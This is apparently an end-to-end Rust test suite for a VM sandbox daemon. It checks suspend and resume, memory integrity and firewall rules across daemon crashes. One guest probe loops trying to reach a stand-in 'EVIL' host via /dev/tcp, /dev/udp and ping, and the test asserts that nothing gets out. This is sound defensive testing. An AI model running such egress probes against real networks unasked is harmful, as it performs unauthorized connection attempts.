//! A real VM is suspended through the API and goes on where it was: behind its gate, under the rules of now, once at most, and
//! never with half of its memory, whoever dies in between.
//!
//! `TAPGATE_SUSPEND_ROUNDS` and `TAPGATE_CHAOS_SEED` make the random deaths more or others.
#![expect(clippy::unwrap_used, reason = "a test's helper fails by panicking")]

use serde_json::{Value, json};
use std::{
    fs, thread,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};
use tapgate_e2e::{
    World,
    chaos::Choices,
    daemon::{self, Daemon, Driver, Settings},
    demo::Stage,
    sh, sites,
};

/// How many times a state is looked at, ten times a second.
const TRIES: usize = 1200;
/// Tries to get out, over and over, and counts how often; and a number that only memory holds.
const RUNNING: &str = "systemd-run -q --unit=probe bash -c 'n=0; while :; do echo $((++n)) > /run/tries; \
    echo x > /dev/udp/EVIL/7; timeout 0.3 bash -c \"echo x > /dev/tcp/EVIL/80\"; ping -c1 -W1 EVIL; sleep 0.1; done'; \
    systemd-run -q --unit=count bash -c 'n=0; while sleep 0.2; do echo $((++n)) > /run/count; done'; \
    while [ ! -e /run/count ]; do sleep 0.1; done";
/// Writes numbers to the disk, each after the one before it is on its medium: a disk that was gone back with has one twice.
const WRITING: &str = "systemd-run -q --unit=writer bash -c 'n=$(tail -n1 /root/log || echo 0); \
    while sleep 0.02; do echo $((++n)) >> /root/log; sync /root/log; done'";

fn stage(world: &World) -> Stage<'_> {
    let settings = Settings::of(Driver::Qemu).unwrap();
    Stage::new(world, Daemon::start(world, settings).unwrap()).unwrap()
}

fn shown(stage: &Stage<'_>, vm: &str) -> Value {
    stage.api().get(&format!("/v1/vms/{vm}")).unwrap().expect(200).unwrap()
}

fn becomes(stage: &Stage<'_>, vm: &str, wanted: &[&str]) -> Value {
    let mut last = Value::Null;
    for _ in 0..TRIES {
        last = shown(stage, vm);
        if wanted.iter().any(|word| last["status_detail"] == *word) {
            return last;
        }
        thread::sleep(Duration::from_millis(100));
    }
    panic!("it never becomes {wanted:?}: {last}");
}

fn call(stage: &Stage<'_>, vm: &str, what: &str, status: u16) -> Value {
    stage.api().post(&format!("/v1/vms/{vm}/{what}"), &json!({})).unwrap().expect(status).unwrap()
}

/// What is another after a boot, and the same after a suspension.
fn moment(stage: &Stage<'_>) -> String {
    let script = "cat /proc/sys/kernel/random/boot_id; systemctl show -P MainPID count";
    stage.guest().unwrap().expect(script).unwrap()
}

fn number(stage: &Stage<'_>, file: &str) -> i64 {
    stage.guest().unwrap().expect(&format!("cat {file}")).unwrap().parse().unwrap()
}

fn reaches_api(stage: &Stage<'_>) -> bool {
    let (name, ca) = (sites::API.name, stage.world_ca());
    let done = stage.sh(&format!("curl -sS -m 20 --cacert {ca} https://{name}/; true")).unwrap();
    done.out.contains("hello from")
}

/// How far the guest's clock is off, in seconds, beyond the time that asking takes.
fn skew(stage: &Stage<'_>) -> i64 {
    let now = || i64::try_from(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs()).unwrap();
    let (before, guest, after) = (now(), number(stage, "<(date +%s)"), now());
    (before - guest).max(guest - after).max(0)
}

fn cli(stage: &Stage<'_>, words: &[&str]) -> sh::Done {
    let mut command = stage.world().on_host(daemon::binary().unwrap());
    command.args(words).env("TAPGATE_API_URL", stage.api().url("")).env("NO_COLOR", "1");
    command.env("TAPGATE_API_KEY", stage.api().key().unwrap()).env("HOME", stage.world().folder());
    sh::capture(&mut command, b"").unwrap()
}

#[test]
fn real_vm_suspended_and_resumed_behind_its_gate() {
    let world = World::new().unwrap();
    let mut stage = stage(&world);
    let rule = stage.api().rule("host", sites::API.name).unwrap();
    let began = Instant::now();
    stage.boot("box").unwrap();
    let cold = began.elapsed();
    let vm = stage.vm().unwrap().to_owned();
    stage.guest().unwrap().expect(&RUNNING.replace("EVIL", &sites::EVIL.v4.to_string())).unwrap();
    assert!(reaches_api(&stage));
    let (before, count, tries) = (moment(&stage), number(&stage, "/run/count"), number(&stage, "/run/tries"));
    let counted = world.counters().unwrap();
    stage.guest().unwrap().hang_up();

    let began = Instant::now();
    let answer = call(&stage, &vm, "suspend", 200);
    assert_eq!((&answer["status"], &answer["status_detail"]), (&json!("stopped"), &json!("stopping")));
    let stopped = becomes(&stage, &vm, &["stopped", "running", "ready", "failed"]);
    println!("suspended after {:?}; created and ready after {cold:?}", began.elapsed());
    assert_eq!((&stopped["status_detail"], &stopped["suspended"]), (&json!("stopped"), &json!(true)));
    assert!(stage.daemon().vmm(&vm).is_none(), "the VMM is left");
    assert_eq!(call(&stage, &vm, "suspend", 409)["error"]["code"], "vm_not_running");
    let listed = stage.api().get("/v1/vms?status=stopped").unwrap().expect(200).unwrap();
    assert_eq!(listed["data"][0]["suspended"], true);

    // While it sleeps its rule goes and the daemon dies.
    stage.api().remove_rule(&rule).unwrap();
    stage.daemon_mut().kill().unwrap();
    thread::sleep(Duration::from_secs(8));
    stage.daemon_mut().start_again().unwrap();
    assert_eq!(shown(&stage, &vm)["suspended"], true);

    let began = Instant::now();
    assert_eq!(call(&stage, &vm, "start", 200)["status"], "running");
    becomes(&stage, &vm, &["ready"]);
    println!("resumed after {:?}", began.elapsed());
    stage.enter(vm.clone()).unwrap();
    let off = skew(&stage);
    assert!(off < 4, "the clock is {off} s off");
    assert_eq!(before, moment(&stage), "it was not booted");
    let resumed = shown(&stage, &vm);
    assert!(resumed["suspended"].is_null() && resumed["suspend_failure"].is_null(), "{resumed}");
    for file in ["memory.json", "memory.zst"] {
        assert!(!stage.daemon().vm_folder(&vm).join(file).exists(), "{file} could be used again");
    }
    let (count_now, tries_now) = (number(&stage, "/run/count"), number(&stage, "/run/tries"));
    assert!(count_now >= count && tries_now > tries, "{count} → {count_now}, {tries} → {tries_now}");
    assert!(!reaches_api(&stage), "a rule that is gone still allows");
    assert_eq!(world.counters().unwrap().since(&counted).of(sites::EVIL), 0, "something got out");
    stage.api().rule("host", sites::API.name).unwrap();
    assert!(reaches_api(&stage), "a new rule is not in force");

    // By the command line; and a memory that is not what was kept is said so and not used.
    stage.guest().unwrap().hang_up();
    let done = cli(&stage, &["vm", "suspend", "box", "--wait"]);
    assert!(done.ok() && done.out.contains("SUSPENDED"), "{done:?}");
    let file = stage.daemon().vm_folder(&vm).join("memory.zst");
    let mut bytes = fs::read(&file).unwrap();
    println!("{} octets of memory are kept", bytes.len());
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    fs::write(&file, bytes).unwrap();
    let done = cli(&stage, &["vm", "start", "box", "--wait"]);
    assert!(!done.ok() && done.err.contains("not what was stored"), "{done:?}");
    assert_eq!(shown(&stage, &vm)["status"], "failed");
    let done = cli(&stage, &["vm", "start", "box", "--wait"]);
    assert!(done.ok(), "{done:?}");
    stage.enter(vm.clone()).unwrap();
    assert_ne!(before.lines().next(), moment(&stage).lines().next(), "it was booted");
    assert_eq!(world.counters().unwrap().since(&counted).of(sites::EVIL), 0, "something got out");

    // One that is suspended is destroyed like one that is stopped.
    stage.guest().unwrap().hang_up();
    call(&stage, &vm, "suspend", 200);
    becomes(&stage, &vm, &["stopped"]);
    stage.api().delete(&format!("/v1/vms/{vm}")).unwrap().expect(204).unwrap();
    stage.api().wait_for(&vm, "destroyed").unwrap();
    assert!(!stage.daemon().vm_folder(&vm).exists());
}

/// Kills the daemon, and the VMM with it one time in four, and starts another.
#[test]
fn real_vm_suspension_under_way_is_finished_by_a_daemon_that_is_told_to_end() {
    let world = World::new().unwrap();
    let mut stage = stage(&world);
    stage.boot("box").unwrap();
    let vm = stage.vm().unwrap().to_owned();
    stage.guest().unwrap().expect(RUNNING).unwrap();
    let before = moment(&stage);
    stage.guest().unwrap().hang_up();
    let signal = |name: &str, pid: u32| sh::run("kill", [name, pid.to_string().as_str()]).unwrap();
    let vmm = stage.daemon().vmm(&vm).unwrap();
    signal("-STOP", vmm);
    call(&stage, &vm, "suspend", 200);
    thread::sleep(Duration::from_secs(1));
    signal("-TERM", stage.daemon().pid());
    // Longer than anything else is waited for.
    thread::sleep(Duration::from_secs(15));
    signal("-CONT", vmm);
    stage.daemon_mut().wait_for_death().unwrap();
    assert!(stage.daemon().vm_folder(&vm).join("memory.json").exists(), "the guest is left as it was");
    stage.daemon_mut().start_again().unwrap();
    let stopped = shown(&stage, &vm);
    assert_eq!((&stopped["status_detail"], &stopped["suspended"]), (&json!("stopped"), &json!(true)));
    start(&stage, &vm);
    assert_eq!(moment(&stage), before);
}

fn deaths(stage: &mut Stage<'_>, choices: &mut Choices, vm: &str) {
    thread::sleep(Duration::from_millis(choices.below(900) as u64));
    stage.daemon_mut().kill().unwrap();
    if choices.below(4) == 0
        && let Some(pid) = stage.daemon().vmm(vm)
    {
        let _ = sh::run("kill", ["-KILL", &pid.to_string()]);
    }
    stage.daemon_mut().start_again().unwrap();
}

/// Asks for a start and does not wait for the answer.
fn start(stage: &Stage<'_>, vm: &str) {
    let mut curl = stage.world().on_host("curl");
    let key = format!("Authorization: Bearer {}", stage.api().key().unwrap());
    curl.args([
        "-sS",
        "-m",
        "0.3",
        "-X",
        "POST",
        "-H",
        &key,
        &stage.api().url(&format!("/v1/vms/{vm}/start")),
    ]);
    sh::capture(&mut curl, b"").unwrap();
}

#[test]
fn real_vm_suspension_under_random_deaths_uses_a_memory_once_and_whole() {
    let given = |name: &str| std::env::var(name).ok().and_then(|text| text.parse::<u64>().ok());
    let long = std::env::var_os("TAPGATE_LONG").is_some();
    let rounds = given("TAPGATE_SUSPEND_ROUNDS").unwrap_or(if long { 20 } else { 4 });
    let seed = given("TAPGATE_CHAOS_SEED").unwrap_or(7);
    let world = World::new().unwrap();
    let mut stage = stage(&world);
    let mut choices = Choices::new(seed);
    stage.boot("box").unwrap();
    let vm = stage.vm().unwrap().to_owned();
    stage.guest().unwrap().expect(&format!("echo 1 > /root/log; {WRITING}")).unwrap();
    let boot_id = "cat /proc/sys/kernel/random/boot_id";
    let mut last = stage.guest().unwrap().expect(boot_id).unwrap();
    let (mut resumed, mut booted, mut kept) = (0, 0, 0);
    for round in 0..rounds {
        stage.guest().unwrap().hang_up();
        call(&stage, &vm, "suspend", 200);
        deaths(&mut stage, &mut choices, &vm);
        let rest = becomes(&stage, &vm, &["stopped", "ready", "failed"]);
        if rest["status_detail"] != "ready" {
            assert_eq!(rest["status"], "stopped", "{rest}");
            kept += u64::from(rest["suspended"] == true);
            start(&stage, &vm);
            if choices.below(2) == 0 {
                deaths(&mut stage, &mut choices, &vm);
            }
            becomes(&stage, &vm, &["ready"]);
        }
        let folder = stage.daemon().vm_folder(&vm);
        assert!(!folder.join("memory.json").exists(), "a VM runs whose memory counts: round {round}");
        stage.enter(vm.clone()).unwrap();
        let guest = stage.guest().unwrap();
        let now = guest.expect(boot_id).unwrap();
        if now == last {
            resumed += 1;
        } else {
            booted += 1;
            guest.expect(WRITING).unwrap();
        }
        last = now;
        let wrong = "awk 'NR > 1 && $1 != before + 1 {print NR\": \"before\" → \"$1} {before = $1}' /root/log; \
                     dmesg | grep -E 'EXT4-fs (error|warning)|I/O error' || true";
        assert_eq!(guest.expect(wrong).unwrap(), "", "round {round} of seed {seed}: the disk went back");
        guest.expect("systemctl is-active writer").unwrap();
    }
    println!(
        "{rounds} rounds, seed {seed}: memory kept {kept} times; went on {resumed} times, booted {booted} times"
    );
}
